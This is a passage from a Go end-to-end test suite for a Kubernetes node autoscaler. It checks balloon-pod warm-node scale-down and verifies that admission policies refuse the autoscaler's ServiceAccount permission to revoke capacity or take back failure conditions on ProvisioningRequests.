		keep = append(keep, o)
	}
	if dep == nil || cm == nil {
		t.Fatal("rendered no Deployment or flags ConfigMap")
	}
	sc.applyAll(keep)
	admin := sc.s.cp.Client
	t.Cleanup(func() {
		sc.deleteClusterScoped(keep)
		_ = admin.SchedulingV1().PriorityClasses().Delete(context.Background(), pc, metav1.DeleteOptions{})
	})
	ss := &securityScenario{scenario: sc, full: release + "-vmss-autoscaler", objs: keep}
	ss.grantsInForce()
	ps := &policiesScenario{securityScenario: ss}
	ps.typeChecked("autoscaler-nodes", "balloon-deployments", "balloon-priority-class")
	// The controller, not the chart, makes the PriorityClass this time.
	must(t, admin.SchedulingV1().PriorityClasses().Delete(sc.ctx, pc, metav1.DeleteOptions{}))

	dir := t.TempDir()
	configFile := filepath.Join(dir, "config.yaml")
	must(t, os.WriteFile(configFile, []byte(cm.Data["config.yaml"]), 0o600))
	addr := fmt.Sprintf("127.0.0.1:%d", freePort(t))
	args, env := sc.chartCommand(dir, dep, configFile, addr, fmt.Sprintf("127.0.0.1:%d", freePort(t)))
	p, err := sc.s.cp.StartProcessEnv(sc.ctx, sc.prefix+"-real", sc.s.autoscaler, env, append(args, "-v=2")...)
	must(t, err)
	sc.track(p, addr)

	balloonsRunning := func() int {
		pods, err := admin.CoreV1().Pods(balloonNS).List(sc.ctx, metav1.ListOptions{LabelSelector: balloon.DefaultLabel})
		must(t, err)
		n := 0
		for _, p := range pods.Items {
			if p.Status.Phase == apiv1.PodRunning && p.DeletionTimestamp == nil {
				n++
			}
		}
		return n
	}
	sc.eventually("the warm node holding its balloon", 2*time.Minute, func() (bool, string) {
		return balloonsRunning() == 1, fmt.Sprintf("balloons running %d, capacity %d", balloonsRunning(), sc.capacity(cpu))
	})
	got, err := admin.SchedulingV1().PriorityClasses().Get(sc.ctx, pc, metav1.GetOptions{})
	must(t, err)
	if got.Value != balloon.DefaultPriorityValue || got.PreemptionPolicy == nil || *got.PreemptionPolicy != apiv1.PreemptNever || got.GlobalDefault {
		t.Fatalf("PriorityClass %s: %+v", pc, got)
	}
	t.Logf("admitted: the controller's PriorityClass %s and balloon Deployment", pc)

	// Work for two more nodes, then none: the two are tainted and deleted,
	// the warm node stays.
	sc.workload("web", 2, "9", 0, cpu)
	sc.eventually("2 web pods Running", 2*time.Minute, allRunning(sc, 2))
	peak := sc.capacity(cpu)
	sc.scaleDeployment("web", 0)
	sc.eventually("the unneeded nodes tainted and deleted down to the warm node", 3*time.Minute, func() (bool, string) {
		return sc.capacity(cpu) == 1 && balloonsRunning() == 1, fmt.Sprintf("capacity %d (peak %d), balloons running %d", sc.capacity(cpu), peak, balloonsRunning())
	})
	t.Logf("admitted: scale-down from %d nodes to the warm one", peak)
	b, err := os.ReadFile(p.LogFile)
	must(t, err)
	if strings.Contains(string(b), "ValidatingAdmissionPolicy") {
		for _, line := range strings.Split(string(b), "\n") {
			if strings.Contains(line, "ValidatingAdmissionPolicy") {
				t.Errorf("refused by a policy: %.600s", line)
			}
		}
	}
}

// TestSecurityProvisioningRequestNeverRevoked (#40): the autoscaler's
// ServiceAccount may write a ProvisioningRequest's conditions, but never
// turn CapacityRevoked True (Kueue would evict the admitted workload; the
// code never sets it) nor take back a Failed. Its own kind of write
// (Provisioned) is admitted. The request's class is one no autoscaler of
// the suite serves.
func TestSecurityProvisioningRequestNeverRevoked(t *testing.T) {
	t.Parallel()
	if err := theSuite.provreqCRD(); err != nil {
		t.Fatalf("installing the ProvisioningRequest CRD: %v", err)
	}
	ps := newPoliciesScenario(t, "e2e-sec-provreq", "enable-provisioning-requests")
	ps.typeChecked("provisioning-requests")
	gvr := schema.GroupVersionResource{Group: "autoscaling.x-k8s.io", Version: "v1", Resource: "provisioningrequests"}
	admin := dynamic.NewForConfigOrDie(ps.s.cp.RESTConfig).Resource(gvr).Namespace(ps.ns)
	asCfg := rest.AnonymousClientConfig(ps.s.cp.RESTConfig)
	asCfg.BearerToken = ps.token(ps.full, nil)
	as := dynamic.NewForConfigOrDie(asCfg).Resource(gvr).Namespace(ps.ns)
	u := &unstructured.Unstructured{Object: map[string]any{
		"apiVersion": "autoscaling.x-k8s.io/v1", "kind": "ProvisioningRequest",
		"metadata": map[string]any{"name": "job", "namespace": ps.ns},
		"spec": map[string]any{"provisioningClassName": "not-served.example.com",
			"podSets": []any{map[string]any{"podTemplateRef": map[string]any{"name": "pt"}, "count": int64(1)}}},
	}}
	_, err := admin.Create(ps.ctx, u, metav1.CreateOptions{})
	must(t, err)
	setCondition := func(typ string) error {
		return retry.RetryOnConflict(retry.DefaultRetry, func() error {
			cur, err := admin.Get(ps.ctx, "job", metav1.GetOptions{})
			if err != nil {
				return err
			}
			conds, _, _ := unstructured.NestedSlice(cur.Object, "status", "conditions")
			conds = append(conds, map[string]any{"type": typ, "status": "True", "reason": "Test", "message": "e2e",
				"lastTransitionTime": metav1.Now().UTC().Format(time.RFC3339)})
			must(t, unstructured.SetNestedSlice(cur.Object, conds, "status", "conditions"))
			_, err = as.UpdateStatus(ps.ctx, cur, metav1.UpdateOptions{})
			return err
		})
	}
	// clearConditions drops the request's conditions, written by c.
	clearConditions := func(c dynamic.ResourceInterface) error {
		return retry.RetryOnConflict(retry.DefaultRetry, func() error {
			cur, err := admin.Get(ps.ctx, "job", metav1.GetOptions{})
			if err != nil {
				return err
			}
			must(t, unstructured.SetNestedSlice(cur.Object, []any{}, "status", "conditions"))
			_, err = c.UpdateStatus(ps.ctx, cur, metav1.UpdateOptions{})
			return err
		})
	}
	const revoked = "vmss-autoscaler never revokes a ProvisioningRequest's capacity"
	ps.eventually("the ProvisioningRequest policy in force", 30*time.Second, func() (bool, string) {
		err := setCondition("CapacityRevoked")
		if err == nil {
			// Admitted before the policy was in force: taken back (as
			// the administrator), probed again.
			must(t, clearConditions(admin))
		}
		return apierrors.IsForbidden(err) && strings.Contains(err.Error(), revoked), fmt.Sprintf("CapacityRevoked as the autoscaler: %v", err)
	})
	if err := setCondition("Provisioned"); err != nil {
		t.Fatalf("Provisioned as the autoscaler: %v, want admitted (its own kind of write)", err)
	}
	if err := setCondition("Failed"); err != nil {
		t.Fatalf("Failed as the autoscaler: %v, want admitted", err)
	}
	wantRefused(t, "Failed taken back", clearConditions(as), "vmss-autoscaler may not take back a ProvisioningRequest's Failed or BookingExpired")
}
